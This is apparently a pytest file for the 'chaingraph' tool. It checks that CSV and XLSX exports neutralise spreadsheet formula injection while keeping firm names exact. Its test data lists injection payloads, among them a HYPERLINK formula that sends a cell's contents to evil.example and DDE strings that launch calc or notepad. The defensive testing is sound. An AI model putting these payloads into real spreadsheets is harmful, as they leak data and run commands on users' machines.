"""CSV / formula injection on output: what chaingraph writes for people never runs as a formula,
and the dataset keeps (and reads back) the exact names."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import Result

from chaingraph.cells import formula_like, neutralise, restore
from chaingraph.dataset import read_graph
from chaingraph.ingest import FIRMS_FILE, import_file
from test_ingest import make_dataset, row, sheet

Run = Callable[..., Result]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "''+two quotes",
    "=cmd|'/c notepad'!A1",
]


@pytest.mark.parametrize(
    "text", [*HOSTILE, "\t=tab first", "\r=cr", "比亚迪", "", "'plain", "a=b", "-"]
)
def test_neutralise_is_safe_and_reversible(text: str) -> None:
    out = neutralise(text)
    assert not formula_like(out)
    assert restore(out) == text
    assert restore(neutralise(out)) == out  # escaping twice still undoes once


def hostile_dataset(folder: Path) -> Path:
    """A dataset of one chain whose local firms carry hostile names (in YAML: exact text)."""
    folder.mkdir()
    (folder / "dataset.yaml").write_text("name: hostile\ntitle: 测试\n", encoding="utf-8")
    lines = [
        "grade: template",
        "nodes:",
        "  - {id: c, kind: Chain, name: 链}",
        "  - {id: s, kind: Segment, name: 环节, tier: midstream, chain: c}",
    ]
    for i, name in enumerate(HOSTILE):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        lines.append(f'  - {{id: f{i}, kind: Firm, name: "{quoted}", local: true}}')
    lines.append("edges:")
    lines += [f"  - {{from: f{i}, rel: IN_SEGMENT, to: s}}" for i in range(len(HOSTILE))]
    (folder / "data.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    G = read_graph(folder)
    assert [G.nodes[f"f{i}"]["name"] for i in range(len(HOSTILE))] == HOSTILE
    return folder


def test_csv_output_runs_no_formula(run: Run, tmp_path: Path) -> None:
    ds = hostile_dataset(tmp_path / "ds")
    result = run("chain", "c", "-f", "csv", store=ds)
    assert result.exit_code == 0, result.output
    cells = [c for r in csv.reader(io.StringIO(result.stdout)) for c in r]
    assert not any(formula_like(c) for c in cells), cells
    names = next(r for r in csv.DictReader(io.StringIO(result.stdout)))["local_firms"]
    assert names.startswith("'") or not formula_like(names)
    out = tmp_path / "find.csv"
    assert run("find", "f", "--kind", "Firm", "-f", "csv", "-o", str(out), store=ds).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert sorted(restore(r["name"]) for r in rows) == sorted(HOSTILE)
    assert not any(formula_like(r["name"]) for r in rows)


def test_xlsx_output_keeps_exact_text_as_text(run: Run, tmp_path: Path) -> None:
    ds = hostile_dataset(tmp_path / "ds")
    out = tmp_path / "find.xlsx"
    result = run("find", "f", "--kind", "Firm", "-f", "xlsx", "-o", str(out), store=ds)
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    col = header.index("name")
    cells = [r[col] for r in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)
    for c in cells:
        assert c.data_type == "s"  # never a formula cell
        assert c.quotePrefix == formula_like(c.value)


def test_import_writes_neutralised_csv_and_reads_back_exact(tmp_path: Path) -> None:
    ds = make_dataset(tmp_path / "ds")
    names = ['=HYPERLINK("http://x","y")有限公司', "@SUM(1+1)公司", "'=引号公司"]
    path = sheet(tmp_path, [row(name=n, place="上海") for n in names], name="名单.csv")
    import_file(path, ds)
    raw = list(csv.DictReader(io.StringIO((ds / FIRMS_FILE).read_text(encoding="utf-8"))))
    written = sorted(r["name"] for r in raw)
    assert not any(formula_like(n) for n in written)
    assert sorted(written) == sorted(neutralise(n) for n in names)
    G = read_graph(ds)
    got = sorted(a["name"] for _, a in G.nodes(data=True) if a.get("name") in names)
    assert got == sorted(names)
    # importing again neither doubles the escape nor changes a name
    before = (ds / FIRMS_FILE).read_text(encoding="utf-8")
    import_file(path, ds)
    assert (ds / FIRMS_FILE).read_text(encoding="utf-8") == before
